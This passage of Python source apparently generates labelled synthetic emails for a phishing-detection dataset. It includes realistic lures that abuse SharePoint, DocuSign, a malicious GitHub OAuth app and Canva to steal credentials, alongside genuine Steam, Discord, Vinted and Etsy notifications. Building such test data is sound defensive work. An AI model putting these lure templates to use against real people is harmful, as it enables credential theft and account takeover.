    inner = Multi("alternative", f"_000_{mid[1:].split('@')[0]}_", [text(plain), text(outlook_html(paras), "html")])
    body = mixed(f"_004_{mid[1:].split('@')[0]}_", inner,
                 attachment("application/pdf", "MFA_Reenrollment_Aisha_Rahman.pdf", pdf))
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "group-project-reply-chain-sharepoint",
        "Reply-chain hijack inside the university: a classmate's compromised mailbox answers the real CS 310 group-project "
        "thread with 'updated report' on the SharePoint of another, compromised organisation - the shared OneNote page "
        "forwards to a credential-phishing site.")
def reply_chain_sharepoint():
    seed = "b31-replychain"
    when = utc("2025-11-12 19:26:05")
    rcpt = "priya.nair@my.ridgemont.edu"
    sender = "jordan.kim@my.ridgemont.edu"
    out, a, mid = ridgemont_internal(seed, when, sender)
    url = ("https://hollisterpartnersllc-my.sharepoint.com/:o:/g/personal/accounting_hollisterpartners_com/"
           "EjK7p2QfX1lNk8dVZ4m0cRwB3xH9sT6yUoA5eLqW2nGf1Q?e=4a7Xq1")
    quoted = (
        "<hr style=\"display:inline-block;width:98%\" tabindex=\"-1\"><div id=\"divRplyFwdMsg\" dir=\"ltr\"><font face=\"Calibri, sans-serif\" "
        "style=\"font-size:11pt\" color=\"#000000\"><b>From:</b> Nair, Priya &lt;priya.nair@my.ridgemont.edu&gt;<br><b>Sent:</b> "
        "Tuesday, November 11, 2025 9:42 PM<br><b>To:</b> Kim, Jordan &lt;jordan.kim@my.ridgemont.edu&gt;; Okafor, David "
        "&lt;d.okafor@my.ridgemont.edu&gt;; Lindgren, Sara &lt;sara.lindgren@my.ridgemont.edu&gt;<br><b>Subject:</b> Re: CS 310 "
        "group project - final report draft</font><div>&nbsp;</div></div>"
        "<div>I finished the evaluation section and the charts. Jordan can you merge everything into the final doc? Deadline "
        "is Friday 11:59pm on Canvas. - Priya</div>")
    paras = [
        "Hey all,", "",
        "I merged everyone's sections and fixed the references. Uploaded the updated version here, please review before "
        "Friday so we can submit:", "",
        f'<a href="{url}">CS310_Final_Report_v4.docx</a>', "",
        "You might need to sign in with your school account to open it.", "",
        "Thanks!", "Jordan",
    ]
    html = outlook_html(paras).replace("</body>", f'<div id="appendonsend"></div>\n{quoted}\n</body>')
    plain = ("Hey all,\n\nI merged everyone's sections and fixed the references. Uploaded the updated version here, please "
             f"review before Friday so we can submit:\n\nCS310_Final_Report_v4.docx <{url}>\n\nYou might need to sign in with "
             "your school account to open it.\n\nThanks!\nJordan\n\n________________________________\nFrom: Nair, Priya "
             "<priya.nair@my.ridgemont.edu>\nSent: Tuesday, November 11, 2025 9:42 PM\nTo: Kim, Jordan; Okafor, David; "
             "Lindgren, Sara\nSubject: Re: CS 310 group project - final report draft\n\nI finished the evaluation section "
             "and the charts. Jordan can you merge everything into the final doc? Deadline is Friday 11:59pm on Canvas. - Priya\n")
    prev = f"<{rnd(seed + 'prev', 13, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}{hx(seed + 'prev2', 20).upper()}@DM6PR12MB4410.namprd12.prod.outlook.com>"
    headers = [
        *out,
        f"From: \"Kim, Jordan\" <{sender}>",
        f"To: \"Nair, Priya\" <{rcpt}>, \"Okafor, David\" <d.okafor@my.ridgemont.edu>,\n \"Lindgren, Sara\" <sara.lindgren@my.ridgemont.edu>",
        "Subject: Re: CS 310 group project - final report draft",
        "Thread-Topic: CS 310 group project - final report draft",
        f"Thread-Index: AQHcUx{rnd(seed + 'ti', 18, B64)}AAE{rnd(seed + 'ti2', 10, B64)}",
        f"Date: {rfc(when)}",
        f"Message-ID: {mid}",
        f"References: {prev}",
        f"In-Reply-To: {prev}",
        *ms_tail(seed, "ridgemont.edu"),
        "MIME-Version: 1.0",
    ]
    body = Multi("alternative", f"_000_{mid[1:].split('@')[0]}_", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 1), a, internal=True), headers), body)


@sample("phishing", "phish", "docusign-sponsorship-envelope-abuse",
        "Genuine DocuSign envelope (docusign.net, all checks pass) created by scammers posing as a creator network: the "
        "'sponsorship agreement' asks the YouTuber to 'confirm the PayPal account for the $3,500 advance', and the "
        "document links to a PayPal credential-phishing page.")
def docusign_abuse():
    seed = "b31-docusign"
    when = utc("2025-07-30 15:02:39")
    rcpt = "alex.rivera.creates@gmail.com"
    ip = f"64.207.219.{num(seed + 'ds', 130, 143)}"
    mf = f"bounces+{num(seed + 'db', 1000000, 9999999)}@docusign.net"
    a = Auth(ip, f"mailout{num(seed + 'dsh', 1, 9)}.docusign.net", mf, "pass", [("docusign.net", "s1", "pass")], "pass",
             "reject", "docusign.net", seed)
    env = uuid(seed + "env").upper()
    link = (f"https://na4.docusign.net/Signing/EmailStart.aspx?a={uuid(seed + 'a')}&amp;etti=24&amp;acct={uuid(seed + 'acct')}"
            f"&amp;er={uuid(seed + 'er')}")
    html = html_page(f"""<body style="margin:0;padding:0;background-color:#eaeaea;">
<table align="center" border="0" cellpadding="0" cellspacing="0" width="100%" style="background-color:#eaeaea;max-width:640px;"><tr><td style="padding:10px 24px;"><img src="https://na4.docusign.net/Signing/Images/email/Email_Logo.png" alt="DocuSign" style="border:none;" width="116" height="34" /></td></tr>
<tr><td style="padding:0 24px 30px 24px;"><table border="0" cellpadding="0" cellspacing="0" width="100%" align="center" style="color:#ffffff;background-color:#1e4ca1;"><tr><td align="center" style="padding:28px 36px 36px 36px;border-radius:2px;background-color:#1e4ca1;color:#ffffff;font-size:16px;font-family:Helvetica,Arial,Sans Serif;width:100%;text-align:center;">
<img width="75" height="75" src="https://na4.docusign.net/member/Images/email/docInvite-white.png" style="width:75px;height:75px;" alt="" /><table border="0" cellspacing="0" cellpadding="0" width="100%"><tr><td align="center" style="padding-top:24px;font-size:16px;font-family:Helvetica,Arial,Sans Serif;border:none;text-align:center;color:#ffffff;">Lumina Creator Network sent you a document to review and sign.</td></tr></table>
<table border="0" cellspacing="0" cellpadding="0" width="100%"><tr><td align="center" style="padding-top:30px;"><div><table cellspacing="0" cellpadding="0"><tr><td align="center" height="44" style="font-size:15px;color:#333333;background-color:#ffc423;font-family:Helvetica,Arial,Sans Serif;font-weight:bold;text-align:center;text-decoration:none;border-radius:2px;background-color:#ffc423;display:block;"><a href="{link}" style="font-size:15px;color:#333333;background-color:#ffc423;font-family:Helvetica,Arial,Sans Serif;font-weight:bold;text-align:center;text-decoration:none;border-radius:2px;background-color:#ffc423;display:inline-block;"><span style="padding:0px 24px;line-height:44px;">REVIEW DOCUMENT</span></a></td></tr></table></div></td></tr></table>
</td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px 24px;color:#000000;font-size:16px;font-family:Helvetica,Arial,Sans Serif;background-color:white;">
<table border="0" cellpadding="0" cellspacing="0"><tr><td style="padding-top:24px;font-size:15px;color:#333333;font-family:Helvetica,Arial,Sans Serif;line-height:20px;"><b>Lumina Creator Network</b><br /><a href="mailto:partnerships@luminacreatornetwork.com" style="color:#2463d1;">partnerships@luminacreatornetwork.com</a></td></tr></table>
<p style="font-size:15px;color:#333333;font-family:Helvetica,Arial,Sans Serif;line-height:20px;">Hi Alex,<br /><br />Please review and sign the attached sponsorship agreement (3 videos, USD 10,500). To receive your <b>$3,500 advance payment</b>, confirm your PayPal account using the secure payment link on page 2 of the agreement before signing.<br /><br />Best,<br />Lumina Partnerships Team</p></td></tr>
<tr><td style="padding:0 24px 12px 24px;background-color:#ffffff;font-family:Helvetica,Arial,Sans Serif;font-size:11px;color:#666666;"><b>Do Not Share This Email</b><br />This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br /><br /><b>Alternate Signing Method</b><br />Visit Docusign.com, click 'Access Documents', and enter the security code:<br />{hx(seed + 'sec', 32).upper()}1</td></tr>
<tr><td style="padding:30px 24px 45px 24px;background-color:#eaeaea;font-size:11px;color:#666666;font-family:Helvetica,Arial,Sans Serif;">This message was sent to you by Lumina Creator Network who is using the Docusign Electronic Signature Service. If you would rather not receive email from this sender you may contact the sender with your request.</td></tr>
</table></body>""", "")
    plain = ("Lumina Creator Network sent you a document to review and sign.\n\nREVIEW DOCUMENT: "
             f"{link.replace('&amp;', '&')}\n\nLumina Creator Network\npartnerships@luminacreatornetwork.com\n\nHi Alex,\n\n"
             "Please review and sign the attached sponsorship agreement (3 videos, USD 10,500). To receive your $3,500 "
             "advance payment, confirm your PayPal account using the secure payment link on page 2 of the agreement before "
             "signing.\n\nBest,\nLumina Partnerships Team\n\nDo Not Share This Email\nThis email contains a secure link to "
             "Docusign. Please do not share this email, link, or access code with others.\n")
    headers = [
        f"Received: from docusign.net (unknown [10.{num(seed + 'r', 10, 99)}.{num(seed + 'r2', 1, 250)}.{num(seed + 'r3', 1, 250)}])\n"
        f"\tby mailout{num(seed + 'dsh', 1, 9)}.docusign.net (Postfix) with ESMTP id 4bt{rnd(seed + 'q', 7)}\n\tfor <{rcpt}>; {rfc(plus(when, -1), '-0700')}",
        dkim("docusign.net", "s1", seed, when, h="From:Reply-To:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
        "MIME-Version: 1.0",
        "From: \"Lumina Creator Network via Docusign\" <dse_NA4@docusign.net>",
        "Reply-To: \"Lumina Creator Network\" <partnerships@luminacreatornetwork.com>",
        f"To: \"Alex Rivera\" <{rcpt}>",
        f"Date: {rfc(when, '-0700')}",
        "Subject: Complete with Docusign: Lumina_x_AlexRivera_Sponsorship_Agreement.pdf",
        f"Message-ID: <{hx(seed + 'mid', 32)}@docusign.net>",
        f"X-DocuSign-EnvelopeID: {env}",
        "X-Mailer: Docusign",
    ]
    body = Multi("alternative", f"----=_NextPart_{hx(seed + 'b', 8).upper()}_{hx(seed + 'b2', 4).upper()}_{hx(seed + 'b3', 4).upper()}",
                 [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "github-mention-oauth-security-alert",
        "Genuine GitHub notification (github.com DKIM/SPF/DMARC pass) generated because an attacker opened an issue "
        "mentioning the student: a fake '[Security Alert] unusual access attempt' whose 'secure your account' link is a "
        "real github.com OAuth authorization for a malicious app requesting repo, workflow and delete_repo scopes.")
def github_oauth():
    seed = "b31-github"
    when = utc("2025-03-17 02:51:44")
    rcpt = "m.castillo.dev@outlook.com"
    ip = f"192.30.252.{num(seed + 'gh', 192, 210)}"
    helo = f"out-{num(seed + 'ghh', 10, 30)}.smtp.github.com"
    mf = "noreply@github.com"
    a = Auth(ip, helo, mf, "pass", [("github.com", "pf2023", "pass")], "pass", "reject", "github.com", seed)
    repo = "m-castillo/pathfinder-bot"
    issue = 23
    client = "Ov23liQx4kP9bT2rW7mZ"
    oauth = (f"https://github.com/login/oauth/authorize?client_id={client}&amp;scope=repo%2Cworkflow%2Cuser%2Cdelete_repo"
             "&amp;redirect_uri=https%3A%2F%2Fgithub-account-shield.com%2Fcallback")
    html = ('<p></p>\n<p><strong>[Security Alert] Unusual access attempt detected</strong></p>\n'
            '<p>Hey there @m-castillo!</p>\n'
            '<p>We have detected an unusual access attempt to your account.</p>\n'
            '<p>Location: Reykjavik, Iceland<br>\nIP Address: 53.253.117.8<br>\nTime: 2025-03-17 02:44:11 UTC</p>\n'
            '<p>If this was not you, please secure your account immediately by reviewing your active sessions and '
            'updating your security settings:</p>\n'
            f'<p><a href="{oauth}" rel="nofollow">Secure your account</a></p>\n'
            '<p>Best regards,<br>\nGitHub Security Team</p>\n\n'
            '<p style="font-size:small;-webkit-text-size-adjust:none;color:#666;">&mdash;<br />Reply to this email directly, '
            f'<a href="https://github.com/{repo}/issues/{issue}">view it on GitHub</a>, or '
            f'<a href="https://github.com/notifications/unsubscribe-auth/{rnd(seed + "unsub", 40).upper()}">unsubscribe</a>.'
            '<br />You are receiving this because you were mentioned.'
            f'<img src="https://github.com/notifications/beacon/{rnd(seed + "beacon", 60)}.gif" height="1" width="1" alt="" />'
            '<span style="color: transparent; font-size: 0; display: none; visibility: hidden; overflow: hidden; opacity: 0; '
            f'width: 0; height: 0; max-width: 0; max-height: 0; mso-hide: all">Message ID: <span>&lt;{repo}/issues/{issue}@github.com&gt;</span></span></p>\n')
    plain = ("**[Security Alert] Unusual access attempt detected**\n\nHey there @m-castillo!\n\nWe have detected an unusual "
             "access attempt to your account.\n\nLocation: Reykjavik, Iceland\nIP Address: 53.253.117.8\nTime: 2025-03-17 "
             "02:44:11 UTC\n\nIf this was not you, please secure your account immediately:\n\n[Secure your account]"
             f"({oauth.replace('&amp;', '&')})\n\nBest regards,\nGitHub Security Team\n\n-- \nReply to this email directly "
             f"or view it on GitHub:\nhttps://github.com/{repo}/issues/{issue}\nYou are receiving this because you were "
             f"mentioned.\n\nMessage ID: <{repo}/issues/{issue}@github.com>\n")
    headers = [
        f"Received: from github.com (hubbernetes-node-{rnd(seed + 'hn', 5, 'abcdefghijklmnopqrstuvwxyz0123456789')}.ac4-iad.github.net [10.52.{num(seed + 'r', 100, 250)}.{num(seed + 'r2', 2, 250)}])\n"
        f"\tby smtp.github.com (Postfix) with ESMTPA id 4ZGF{rnd(seed + 'q', 6)}\n\tfor <{rcpt}>; {rfc(plus(when, -1), '-0700')}",
        dkim("github.com", "pf2023", seed, when, h="Date:From:Reply-To:To:Cc:In-Reply-To:References:Subject:List-ID:List-Archive:List-Post:List-Unsubscribe:From"),
        f"Date: {rfc(when, '-0700')}",
        "From: github-security-alerts <notifications@github.com>",
        f"Reply-To: {repo} <reply+{rnd(seed + 'reply', 64).upper()}@reply.github.com>",
        f"To: {repo} <pathfinder-bot@noreply.github.com>",
        "Cc: Mention <mention@noreply.github.com>",
        f"Message-ID: <{repo}/issues/{issue}@github.com>",
        "Subject: [m-castillo/pathfinder-bot] [Security Alert] Unusual access attempt detected (Issue #23)",
        "Mime-Version: 1.0",
        f"X-GitHub-Sender: github-security-alerts",
        "X-GitHub-Recipient: m-castillo",
        "X-GitHub-Reason: mention",
        f"List-ID: {repo} <pathfinder-bot.m-castillo.github.com>",
        f"List-Archive: https://github.com/{repo}",
        f"List-Post: <mailto:reply+{rnd(seed + 'reply', 64).upper()}@reply.github.com>",
        f"List-Unsubscribe: <mailto:unsub+{rnd(seed + 'reply', 64).upper()}@reply.github.com>,\n <https://github.com/notifications/unsubscribe/{rnd(seed + 'unsub2', 40).upper()}>",
        "X-Auto-Response-Suppress: All",
        "destinations: m.castillo.dev@outlook.com",
        "X-GitHub-Recipient-Address: m.castillo.dev@outlook.com",
    ]
    body = Multi("alternative", f"--==_mimepart_{hx(seed + 'b', 13)}_{num(seed, 10, 99)}", [text(plain), text(html, "html")],
                 ' charset=UTF-8;')
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("phishing", "phish", "canva-shared-design-payroll-abuse",
        "Genuine Canva 'shared a design with you' notification (canva.com passes) sent from a compromised Canva account "
        "to student workers: the design is a one-page 'Student Employment Payroll - update direct deposit' flyer whose "
        "button leads to a credential-harvesting page.")
def canva_abuse():
    seed = "b31-canva"
    when = utc("2025-10-02 13:40:18")
    rcpt = "tomas.nunez@my.ridgemont.edu"
    ip, helo, ses = ses_hops(seed, when)
    mf = f"0100{hx(seed + 'rp', 12)}-{hx(seed + 'rp2', 8)}-000000@mail.canva.com"
    a = Auth(ip, helo, mf, "pass", [("canva.com", "canva2023", "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")],
             "pass", "reject", "canva.com", seed)
    design = "DAGzK3vQx8M"
    url = (f"https://www.canva.com/design/{design}/{rnd(seed + 'tok', 22, B62 + '_-')}/view?utm_content={design}"
           "&amp;utm_campaign=designshare&amp;utm_medium=link2&amp;utm_source=sharebutton")
    html = html_page(f"""<body style="margin:0;background:#f6f7f8;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center" style="padding:32px 0;">
<table width="520" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;border-radius:8px;font-family:'Canva Sans',Helvetica,Arial,sans-serif;color:#0e1318;">
<tr><td style="padding:28px 32px 0 32px;"><img src="https://static.canva.com/email/canva-logo-2023.png" width="82" alt="Canva" /></td></tr>
<tr><td style="padding:24px 32px 8px 32px;font-size:20px;font-weight:bold;">Denise Carlisle shared a design with you</td></tr>
<tr><td style="padding:8px 32px;font-size:15px;line-height:22px;color:#3d4450;">&ldquo;Student Employment Payroll: all student workers must update their direct deposit details before the next pay period (10/10). Review the document and sign in to confirm.&rdquo;</td></tr>
<tr><td style="padding:16px 32px;"><table cellpadding="0" cellspacing="0" border="0" style="border:1px solid #e3e5e8;border-radius:6px;width:100%;"><tr><td style="padding:14px;font-size:14px;"><b>Payroll_DirectDeposit_Update_Fall2025</b><br /><span style="color:#6b7280;">Document (A4)</span></td></tr></table></td></tr>
<tr><td style="padding:8px 32px 32px 32px;"><a href="{url}" style="background:#8b3dff;color:#ffffff;padding:12px 24px;border-radius:6px;text-decoration:none;font-size:15px;font-weight:bold;">Open design</a></td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#6b7280;border-top:1px solid #eeeeee;">You received this email because Denise Carlisle shared a design with {rcpt}.<br />Canva&reg;, 110 Kippax St, Surry Hills NSW 2010, Australia</td></tr>
</table></td></tr></table></body>""", "Canva")
    plain = ("Denise Carlisle shared a design with you\n\n\"Student Employment Payroll: all student workers must update their "
             "direct deposit details before the next pay period (10/10). Review the document and sign in to confirm.\"\n\n"
             f"Payroll_DirectDeposit_Update_Fall2025\n\nOpen design: {url.replace('&amp;', '&')}\n\nCanva, 110 Kippax St, "
             "Surry Hills NSW 2010, Australia\n")
    headers = [
        *ses,
        dkim("canva.com", "canva2023", seed, when, h="From:Reply-To:To:Subject:MIME-Version:Content-Type:Message-ID:Date"),
        "From: Canva <no-reply@canva.com>",
        "Reply-To: Denise Carlisle <dcarlisle.hr@gmail.com>",
        f"To: {rcpt}",
        "Subject: Denise Carlisle shared \"Payroll_DirectDeposit_Update_Fall2025\" with you",
        "MIME-Version: 1.0",
        f"Message-ID: {ses_msgid(seed, when)}",
        f"Date: {rfc(when)}",
        f"Feedback-ID: ::1.us-east-1.{rnd(seed + 'fb', 43, B64)}=:AmazonSES",
        f"X-SES-Outgoing: {when:%Y.%m.%d}-{ip}",
    ]
    body = Multi("alternative", f"----=_Part_{num(seed + 'p', 100000, 999999)}_{num(seed + 'p2', 10**8, 10**9)}.{int(when.timestamp()) * 1000}",
                 [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


# ============================================================================================
# legitimate: transactional and security notifications from the real services
# ============================================================================================

@sample("clean", "legit", "steam-purchase-receipt",
        "Genuine Steam purchase receipt from noreply@steampowered.com sent by Valve's own mail servers (DKIM/SPF/DMARC "
        "pass), with order details and links only to store.steampowered.com and help.steampowered.com.")
def steam_receipt():
    seed = "b31-l-steamrcpt"
    when = utc("2025-07-04 18:21:53")
    rcpt = "jaylen.brooks04@gmail.com"
    ip = f"208.64.202.{num(seed + 'ip', 30, 60)}"
    a = Auth(ip, f"smtp-0{num(seed + 'h', 1, 6)}-tuk1.steampowered.com", "noreply@steampowered.com", "pass",
             [("steampowered.com", "smtp", "pass")], "pass", "reject", "steampowered.com", seed)
    html = html_page("""<body style="margin:0;padding:0;background-color:#171a21;">
<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#171a21"><tr><td align="center">
<table width="540" cellpadding="0" cellspacing="0" border="0" style="font-family:Arial,Helvetica,sans-serif;">
<tr><td style="padding:20px 0;"><a href="https://store.steampowered.com/"><img src="https://store.cloudflare.steamstatic.com/public/shared/images/email/email_header_logo.png" width="160" alt="Steam" border="0" /></a></td></tr>
<tr><td bgcolor="#1b2838" style="padding:24px;color:#c6d4df;font-size:14px;line-height:20px;">
<p style="font-size:22px;color:#ffffff;margin:0 0 14px 0;">Thank you for your recent transaction on Steam.</p>
<p>The items below have been added to your Steam library.</p>
<table width="100%" cellpadding="6" cellspacing="0" border="0" style="color:#c6d4df;font-size:13px;">
<tr><td>Account name:</td><td align="right">jbrooks04</td></tr>
<tr><td>Invoice:</td><td align="right">4218839017264553122</td></tr>
<tr><td>Date issued:</td><td align="right">4 Jul, 2025 @ 11:21am PDT</td></tr>
<tr><td style="border-top:1px solid #3a4b5c;">Hollow Knight: Silksong</td><td align="right" style="border-top:1px solid #3a4b5c;">$19.99</td></tr>
<tr><td>Balatro</td><td align="right">$11.99</td></tr>
<tr><td style="border-top:1px solid #3a4b5c;color:#ffffff;">Total:</td><td align="right" style="border-top:1px solid #3a4b5c;color:#ffffff;">$31.98</td></tr>
<tr><td>Payment method:</td><td align="right">Steam Wallet</td></tr>
</table>
<p style="margin-top:20px;">You can view your purchase history at any time on <a href="https://store.steampowered.com/account/history/" style="color:#66c0f4;">your account page</a>. If you have questions about this transaction, please visit <a href="https://help.steampowered.com/" style="color:#66c0f4;">Steam Support</a>.</p>
</td></tr>
<tr><td style="padding:18px 0;color:#61686d;font-size:11px;">Valve Corporation, PO Box 1688, Bellevue, WA 98009. All rights reserved. All trademarks are property of their respective owners in the US and other countries.<br />This email was sent to the email address associated with your Steam account.</td></tr>
</table></td></tr></table></body>""", "Steam")
    plain = ("Thank you for your recent transaction on Steam.\n\nAccount name: jbrooks04\nInvoice: 4218839017264553122\n"
             "Date issued: 4 Jul, 2025 @ 11:21am PDT\n\nHollow Knight: Silksong   $19.99\nBalatro   $11.99\nTotal: $31.98\n"
             "Payment method: Steam Wallet\n\nView your purchase history: https://store.steampowered.com/account/history/\n"
             "Steam Support: https://help.steampowered.com/\n\nValve Corporation, PO Box 1688, Bellevue, WA 98009.\n")
    headers = [
        f"Received: from steampowered.com (unknown [10.{num(seed + 'r', 10, 99)}.{num(seed + 'r2', 1, 250)}.{num(seed + 'r3', 1, 250)}])\n"
        f"\tby {a.helo} (Postfix) with ESMTP id 4bTq{rnd(seed + 'q', 6)}\n\tfor <{rcpt}>; {rfc(plus(when, -1), '-0700')}",
        dkim("steampowered.com", "smtp", seed, when, h="Date:To:From:Subject:Message-ID:MIME-Version:Content-Type"),
        f"Date: {rfc(when, '-0700')}",
        f"To: {rcpt}",
        "From: Steam Store <noreply@steampowered.com>",
        "Subject: Thank you for your Steam purchase!",
        f"Message-ID: <{hx(seed + 'mid', 32)}@store.steampowered.com>",
        "MIME-Version: 1.0",
    ]
    body = Multi("alternative", f"b1_{hx(seed + 'b', 32)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("clean", "legit", "discord-verify-login-location",
        "Genuine Discord 'Verify Discord login from new location' mail from noreply@discord.com via SendGrid with "
        "Discord's own branded click domain (click.discord.com) - a real security prompt that resembles the lures.")
def discord_verify():
    seed = "b31-l-discord"
    when = utc("2025-01-11 20:05:14")
    rcpt = "kai_nguyen22@outlook.com"
    ip, helo, sg = sendgrid_hops(seed, when, "o1.email.discord.com")
    mf = f"bounces+11387221-8f2e-{rcpt.replace('@', '=')}@email.discord.com"
    a = Auth(ip, helo, mf, "pass", [("discord.com", "s1", "pass")], "pass", "reject", "discord.com", seed)
    link = sg_link(seed, "click.discord.com")
    html = html_page(f"""<body style="background:#f9f9f9;margin:0;padding:0;">
<div style="max-width:640px;margin:0 auto;background:#ffffff;font-family:'gg sans',Whitney,'Helvetica Neue',Helvetica,Arial,sans-serif;">
<div style="padding:40px 50px 0 50px;"><img src="https://cdn.discordapp.com/email_assets/592423b8aedd155170617c9ae736e508.png" width="138" height="38" alt="Discord" /></div>
<div style="padding:30px 50px;color:#737f8d;font-size:16px;line-height:24px;">
<h2 style="font-weight:500;font-size:20px;color:#4f545c;">Hey kai.nguyen,</h2>
<p>Someone tried to log into your Discord account from a new location. If this is you, follow the link below to authorize logging in from this location on your account. If this isn't you, we suggest changing your password as soon as possible.</p>
<p><b>IP Address:</b> 73.162.44.18<br /><b>Location:</b> Sacramento, California, United States</p>
<div style="text-align:center;margin:30px 0;"><a href="{link}" style="background:#5865f2;color:#ffffff;padding:15px 19px;border-radius:3px;text-decoration:none;font-size:15px;display:inline-block;">Verify Login</a></div>
</div>
<div style="padding:0 50px 40px 50px;color:#99aab5;font-size:12px;text-align:center;">Sent by Discord &bull; <a href="https://discord.com/blog" style="color:#5865f2;">check our blog</a> &bull; @discord<br />444 De Haro Street, Suite 200, San Francisco, CA 94107</div>
</div>
<img src="https://click.discord.com/wf/open?upn=u001.{rnd(seed + 'open', 120, B62 + '-')}" alt="" width="1" height="1" border="0" /></body>""", "Discord")
    plain = ("Hey kai.nguyen,\n\nSomeone tried to log into your Discord account from a new location. If this is you, follow "
             "the link below to authorize logging in from this location on your account. If this isn't you, we suggest "
             f"changing your password as soon as possible.\n\nIP Address: 73.162.44.18\nLocation: Sacramento, California, "
             f"United States\n\nVerify Login: {link}\n\nSent by Discord\n")
    headers = [
        *sg,
        dkim("discord.com", "s1", seed, when, h="content-type:from:mime-version:subject:to:cc:content-type:from:subject:to"),
        f"Date: {rfc(when)}",
        "From: Discord <noreply@discord.com>",
        "Mime-Version: 1.0",
        f"Message-ID: {sg_msgid(seed)}",
        "Subject: Verify Discord Login from New Location",
        f"X-SG-EID:\n =?us-ascii?Q?{rnd(seed + 'eid', 60, B62)}?=",
        f"To: {rcpt}",
        "X-Entity-ID: u001.Ovh3Z+6T7y5qSGv0oL5y6A==",
    ]
    headers = [h for h in headers if h]
    body = alt(seed, plain, html, hx(seed + "bd", 64))
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("clean", "legit", "vinted-fr-article-vendu",
        "Genuine French Vinted 'ton article a été vendu' seller notification from no-reply@vinted.fr (DKIM/DMARC pass), "
        "telling the seller to ship with the prepaid label in the app - links only to vinted.fr.")
def vinted_real():
    seed = "b31-l-vinted"
    when = utc("2025-03-22 09:47:05")
    rcpt = "theo.marchand@outlook.fr"
    ip, helo, ses = ses_hops(seed, when, "eu-west-1")
    mf = f"0102{hx(seed + 'rp', 12)}-{hx(seed + 'rp2', 8)}-000000@eu-west-1.amazonses.com"
    a = Auth(ip, helo.replace("smtp-out.amazonses.com", "smtp-out.eu-west-1.amazonses.com"), mf, "pass",
             [("vinted.fr", "vin1", "pass"), ("amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv", "pass")], "pass",
             "reject", "vinted.fr", seed)
    html = html_page("""<body style="margin:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table width="560" cellpadding="0" cellspacing="0" border="0" style="font-family:Helvetica,Arial,sans-serif;color:#171717;">
<tr><td style="padding:24px 0;"><a href="https://www.vinted.fr/"><img src="https://static.vinted.com/assets/email/vinted-logo-v2.png" width="110" alt="Vinted" border="0" /></a></td></tr>
<tr><td style="font-size:22px;font-weight:bold;padding-bottom:14px;">Ton article a &eacute;t&eacute; vendu</td></tr>
<tr><td style="font-size:15px;line-height:22px;color:#4d4d4d;">Bonjour theo_mrch,<br /><br />
<b>Sweat Patagonia gris, taille M</b> a &eacute;t&eacute; achet&eacute; par <b>lucas.dvl</b>.<br /><br />
Envoie ton colis avant le <b>27/03/2025</b>. Le bordereau d'envoi pr&eacute;pay&eacute; est disponible dans ta conversation avec l'acheteur, dans l'appli.<br /><br />
Tu recevras l'argent sur ton Porte-monnaie Vinted d&egrave;s que l'acheteur aura confirm&eacute; que tout est en ordre.</td></tr>
<tr><td style="padding:24px 0;"><a href="https://www.vinted.fr/inbox/11842203957" style="background:#007782;color:#ffffff;padding:12px 22px;border-radius:4px;text-decoration:none;font-size:15px;">Voir la conversation</a></td></tr>
<tr><td style="font-size:12px;color:#999999;padding:20px 0;border-top:1px solid #eeeeee;">Vinted ne te demandera jamais tes coordonn&eacute;es bancaires par e-mail ou via un lien externe.<br />Vinted UAB, Svitrigailos g. 13, 03228 Vilnius, Lituanie &middot; <a href="https://www.vinted.fr/settings/notifications" style="color:#999999;">Param&egrave;tres de notification</a></td></tr>
</table></td></tr></table></body>""", "Vinted")
    plain = ("Ton article a été vendu\n\nBonjour theo_mrch,\n\nSweat Patagonia gris, taille M a été acheté par lucas.dvl.\n"
             "Envoie ton colis avant le 27/03/2025. Le bordereau prépayé est disponible dans ta conversation avec "
             "l'acheteur.\n\nVoir la conversation : https://www.vinted.fr/inbox/11842203957\n\nVinted UAB\n")
    headers = [
        *ses,
        dkim("vinted.fr", "vin1", seed, when, h="Subject:From:To:Date:MIME-Version:Content-Type:Message-ID"),
        "Subject: =?UTF-8?Q?Ton_article_a_=C3=A9t=C3=A9_vendu?=",
        "From: Vinted <no-reply@vinted.fr>",
        f"To: {rcpt}",
        f"Date: {rfc(when)}",
        "MIME-Version: 1.0",
        f"Message-ID: {ses_msgid(seed, when, 'eu-west-1.')}",
        f"Feedback-ID: ::1.eu-west-1.{rnd(seed + 'fb', 43, B64)}=:AmazonSES",
        f"X-SES-Outgoing: {when:%Y.%m.%d}-{ip}",
    ]
    body = Multi("alternative", f"----=_Part_{num(seed + 'p', 100000, 999999)}_{num(seed + 'p2', 10**8, 10**9)}.{int(when.timestamp()) * 1000}",
                 [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("clean", "legit", "etsy-you-made-a-sale",
        "Genuine Etsy 'You made a sale' order notification from transaction@etsy.com (Etsy's own mail servers, all checks "
        "pass) with buyer, item and ship-by date, links to etsy.com only.")
def etsy_sale():
    seed = "b31-l-etsy"
    when = utc("2025-10-19 15:33:12")
    rcpt = "wildfernprints@gmail.com"
    ip = f"69.25.{num(seed + 'ip', 26, 27)}.{num(seed + 'ip2', 10, 250)}"
    a = Auth(ip, f"mail-{ip.split('.')[-1]}.etsy.com", "bounce@etsy.com", "pass", [("etsy.com", "etsy2023", "pass")],
             "pass", "reject", "etsy.com", seed)
    order = "3489102264"
